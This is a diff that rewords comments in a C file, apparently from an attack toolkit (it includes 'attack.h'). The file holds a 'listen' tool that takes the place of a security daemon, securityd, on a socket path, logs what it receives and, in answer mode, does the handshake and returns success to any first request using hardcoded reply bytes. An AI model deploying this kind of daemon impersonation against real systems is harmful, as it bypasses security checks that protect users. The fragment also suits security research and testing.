@@ -1,5 +1,5 @@
-/* listen PATH [answer]: stands in securityd's place; prints what it hears until its input ends. With `answer` it shakes hands
-   and says yes to the first request, whatever it is. */
+/* listen PATH [answer]: listens in securityd's place, and prints received messages until its input ends. With `answer` it
+   does the handshake and replies with success to the first request, whatever the request is. */
 #define _GNU_SOURCE
 #include "attack.h"
 
@@ -16,7 +16,7 @@
 static void answer(int end) {
     static const uint8_t challenge[19] = {0xA1, 0x02, 0x50};
     static const uint8_t welcome[] = {0xA1, 0x00, 0x00};
-    /* {0: 0}, then the item {0: 16 bytes, 1: 1, 2: 1, 3: false}. */
+    /* The reply is {0: 0}, then the item {0: 16 bytes, 1: 1, 2: 1, 3: false}. */
     static const uint8_t reply[28] = {
         0xA1, 0x00, 0x00, 0xA4, 0x00, 0x50, [22] = 0x01, 0x01, 0x02, 0x01, 0x03, 0xF4,
     };
